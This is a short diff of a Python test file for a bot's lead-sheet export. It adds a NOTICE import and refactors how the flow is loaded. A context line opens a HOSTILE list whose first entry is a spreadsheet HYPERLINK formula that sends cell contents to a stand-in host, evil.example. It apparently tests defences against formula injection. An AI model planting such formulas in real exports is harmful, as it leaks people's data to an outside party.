@@ -18,10 +18,11 @@ from conversations.eligibility import load_rules
 from conversations.flow import load_flow
 from tests.conftest import ADMIN_ID, STAFF_CHAT_ID, RunningBot
 from tests.fake_bot_api import FakeBotApi
-from tests.pack import FLOWS, RULES
+from tests.pack import FLOWS, NOTICE, RULES
 
 _RULES = load_rules("eligibility", RULES)
-SHEET = export.LeadSheet(load_flow(_RULES.flow, FLOWS), _RULES.formula.direction, tuple(_RULES.export))
+_FLOW = load_flow(_RULES.flow, FLOWS, NOTICE)
+SHEET = export.LeadSheet(_FLOW, _RULES.formula.direction, tuple(_RULES.export))
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&D3&C3,"详情")',
